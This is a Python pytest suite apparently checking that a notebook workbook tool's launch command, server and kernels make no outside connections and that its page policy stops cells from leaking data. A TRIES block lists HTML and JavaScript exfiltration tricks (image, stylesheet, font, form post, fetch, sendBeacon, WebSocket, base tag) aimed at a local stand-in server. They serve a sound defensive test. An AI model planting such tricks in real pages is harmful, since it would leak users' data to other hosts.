"""The README's command, as a reader types it, sends nothing off the machine."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import nbformat
import pytest
from support.connections import Connections
from support.jupyter_lab import free_port, private_environment, stop, wait_for_server
from support.traffic import Traffic

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ROOT = Path(__file__).resolve().parents[2]
START = "uv run --no-dev glidekit"


def readers_command() -> list[str]:
    """The command as in the README or, when not run by uv, the program that it starts."""
    assert START in (ROOT / "README.md").read_text(encoding="utf-8")
    if "UV" in os.environ:  # set by uv for what it runs
        return [os.environ["UV"], *START.split()[1:]]
    return [str(Path(sys.executable).with_name("glidekit"))]


@pytest.fixture
def connections(tmp_path: Path) -> Connections:
    return Connections(tmp_path)


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    """Where the command puts everything."""
    return tmp_path_factory.mktemp("reader")


@pytest.fixture(scope="module")
def opened_by_command(folder: Path) -> Connections:
    """What the command, its server and their kernels connect to."""
    return Connections(folder)


@pytest.fixture(scope="module")
def address(folder: Path, opened_by_command: Connections) -> Iterator[str]:
    """The address that the command prints; it gets only a port, a folder and ``--no-browser``."""
    port, output = free_port(), folder / "said.txt"
    command = [*readers_command(), "--no-browser", f"--port={port}", f"--folder={folder}"]
    environment = private_environment(folder / "jupyter") | opened_by_command.environment
    with output.open("wb") as sink:
        process = subprocess.Popen(command, cwd=ROOT, env=environment, stdout=sink, stderr=subprocess.STDOUT)
    try:
        wait_for_server(f"http://127.0.0.1:{port}", process, output)
        said = output.read_text(encoding="utf-8")
        found = re.search(rf"http://127\.0\.0\.1:{port}/lab/tree/00_start_here\.ipynb\?token=\w+", said)
        assert found, said
        yield found[0]
    finally:
        stop(process)


@dataclass(frozen=True)
class Reader:
    """The page at the command's address, its requests, and the folder for everything."""

    page: Page
    traffic: Traffic
    folder: Path


@pytest.fixture(scope="module")
def reader(address: str, browser: Browser, folder: Path) -> Iterator[Reader]:
    """A person at the page, with their own notebook next to those of the workbook."""
    traffic, context = Traffic(), browser.new_context(viewport={"width": 1200, "height": 900})
    traffic.watch(context)
    context.set_default_timeout(30_000)
    start, _, token = address.partition("/lab/tree/00_start_here.ipynb?token=")
    cells = [nbformat.v4.new_code_cell(SESSION)]
    kernel = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
    notebook = nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernel})
    context.request.put(
        f"{start}/api/contents/my_own.ipynb",
        data={"type": "notebook", "format": "json", "content": notebook},
        headers={"Authorization": f"token {token}"},
    )
    page = context.new_page()
    page.goto(address)
    yield Reader(page, traffic, folder)
    context.close()
    assert traffic.outside == [], "a page asked for something outside this machine"


def wait_for_kernel(page: Page) -> None:
    """Wait until the kernel of the visible notebook is idle."""
    page.locator('.jp-Notebook-ExecutionIndicator[data-status="idle"]:visible').wait_for()
    page.locator("#jp-main-statusbar").get_by_text("Python 3 (ipykernel) | Idle").wait_for()


def test_neither_page_nor_server_nor_kernel_opens_an_outside_connection(reader, opened_by_command):
    page, traffic = reader.page, reader.traffic
    page.wait_for_selector(".jp-Notebook")
    wait_for_kernel(page)
    page.get_by_role("menuitem", name="Run", exact=True).click()
    page.get_by_role("menuitem", name="Run All Cells", exact=True).click()
    page.wait_for_function(
        """() => {
          const found = document.querySelectorAll('.jp-CodeCell .jp-InputPrompt');
          const prompts = [...found].map(one => one.textContent);
          return /\\d/.test(prompts[0]) && !prompts.some(text => text.includes('*'));
        }""",
        polling=200,
    )
    wait_for_kernel(page)
    page.wait_for_load_state("networkidle")
    assert len(traffic.requests) > 10
    assert traffic.outside == []
    assert not any("/api/build" in url for url in traffic.requests), "the server starts a program of its own"
    assert opened_by_command.noted("inside"), "the recorder saw nothing, so it proves nothing"
    assert opened_by_command.noted("outside") == []
    assert (reader.folder / "my-workbook" / "00_start_here.ipynb").is_file()


def test_the_recorder_would_see_a_connection(connections):
    code = "import socket\none = socket.socket()\none.setblocking(False)\none.connect_ex(('192.0.2.1', 9))"
    subprocess.run([sys.executable, "-c", code], env=os.environ | connections.environment, check=True)
    assert connections.noted("outside") == ["192.0.2.1 (socket.connect)"]


def test_plain_jupyterlab_in_this_environment_asks_for_no_news_either(tmp_path, monkeypatch):
    """What its server returns for these settings if a person has set none."""
    monkeypatch.setenv("JUPYTER_CONFIG_DIR", str(tmp_path))
    from jupyterlab.labapp import LabApp  # here, because it starts node, for every worker that reads this
    from jupyterlab_server.settings_utils import get_settings

    plain, settings = LabApp(), "@jupyterlab/apputils-extension:notification"
    answer, _ = get_settings(plain.app_settings_dir, plain.schemas_dir, str(tmp_path), settings)
    defaults = answer["schema"]["properties"]
    assert defaults["fetchNews"]["default"] == "false"
    assert defaults["checkForUpdates"]["default"] is False


def rights(path: Path) -> int:
    """A file's rights; 0 for a temporary file that the server has renamed meanwhile."""
    try:
        return path.stat().st_mode
    except FileNotFoundError:
        return 0


SESSION = """
import dataclasses
import glidekit as gk
from glidekit.planning.plan_file import write_plan
log = gk.open_log()
for record in gk.simulate(sessions=2, seed=1):
    log.save(dataclasses.replace(record, session_id=None, simulated=False))
log.back_up()
log.export("export")
log.export("export.json")
write_plan(gk.plan("gentle-start"), log.path.parent)
open("notes.txt", "w").write("mine")
"""


@pytest.mark.skipif(os.name == "nt", reason="Windows keeps rights in another way; a profile is private there")
def test_no_file_of_a_session_can_be_read_by_another_user(reader):
    page, folder = reader.page, reader.folder
    page.locator(".jp-DirListing-item", has_text="my_own.ipynb").dblclick()
    page.get_by_role("tab", name="my_own.ipynb", selected=True).wait_for()
    wait_for_kernel(page)
    page.locator(".jp-Notebook:visible .jp-CodeCell .cm-content").click()
    page.keyboard.press("Shift+Enter")
    page.locator(".jp-InputPrompt:visible", has_text="[1]:").wait_for()
    for _ in range(2):  # the first save makes the checkpoint, the second overwrites the notebook
        page.keyboard.press("Control+s")
        page.locator(".jp-mod-current.jp-mod-dirty").wait_for(state="detached")
    made = [*(folder / "my-workbook").rglob("*"), *(folder / "jupyter" / "backups").rglob("*")]
    names = {path.name for path in made}
    assert {"my-log.sqlite", "notes.txt", "export", ".ipynb_checkpoints", "my_own-checkpoint.ipynb"} <= names
    assert [path for path in made if path.suffix == ".json" and "plan" in path.name]
    assert [path for path in made if "backups" in path.parts], "no copy was made"
    assert {str(path): oct(rights(path)) for path in made if rights(path) & 0o077} == {}


# --- the page's own policy

# Ways in which a stranger's cell might send out what it reads on the page.
TRIES = """
<img src="CANARY/image">
<link rel="stylesheet" href="CANARY/style">
<style>@font-face {font-family: away; src: url("CANARY/font")} p {font-family: away}</style><p>words</p>
<script src="CANARY/script"></script>
<iframe name="gk-away"></iframe>
<form action="CANARY/form" method="post" target="gk-away"><input name="pain" value="7"></form>
<script>
  fetch("CANARY/fetch", {mode: "no-cors"}).catch(() => {});
  navigator.sendBeacon("CANARY/beacon", "pain=7");
  new WebSocket("CANARY/socket".replace("http", "ws"));
  document.querySelector("form[target=gk-away]").submit();
</script>
"""
ASKED = {"image", "style", "font", "script", "form", "fetch", "beacon", "socket"}


@pytest.fixture
def canary() -> Iterator[tuple[str, set[str]]]:
    """A server on another origin, and the set of paths it was asked for."""
    asked: set[str] = set()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.add(self.path.lstrip("/"))
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that http.server calls

        def log_message(self, *_: object) -> None:
            """Log nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def test_a_cell_can_send_nothing_to_another_server_nor_turn_the_pages_own_requests_there(
    rewrite_notebook, canary
):
    address, asked = canary
    html = TRIES.replace("CANARY", address)
    base = f'<base href="{address}/">'
    notebook = rewrite_notebook(
        [
            f"from IPython.display import HTML\nHTML({html!r})",
            f"from IPython.display import HTML\nHTML({base!r})",
        ]
    )
    notebook.page.evaluate(
        """() => {
          window.blocked = [];
          document.addEventListener('securitypolicyviolation', one => window.blocked.push(one.blockedURI));
        }"""
    )
    assert notebook.run_cell(0)
    blocked = lambda: {uri.rpartition("/")[2] for uri in notebook.page.evaluate("window.blocked")}  # noqa: E731 - a poll
    notebook.wait_until(lambda: blocked() >= ASKED, what="every try was blocked")
    assert asked == set()
    assert notebook.run_cell(1)
    notebook.wait_for("document.querySelector('.jp-OutputArea-output base') !== null")
    assert notebook.page.evaluate("document.baseURI").startswith(notebook.lab.url)
    assert asked == set()


def test_without_the_policy_the_other_server_would_be_asked(page, canary):
    """The control: the same HTML in a page without a server."""
    address, asked = canary
    page.set_content(TRIES.replace("CANARY", address))
    page.wait_for_function("true")
    deadline = time.monotonic() + 20
    while asked < ASKED and time.monotonic() < deadline:
        page.wait_for_timeout(50)  # a poll
    assert asked == ASKED
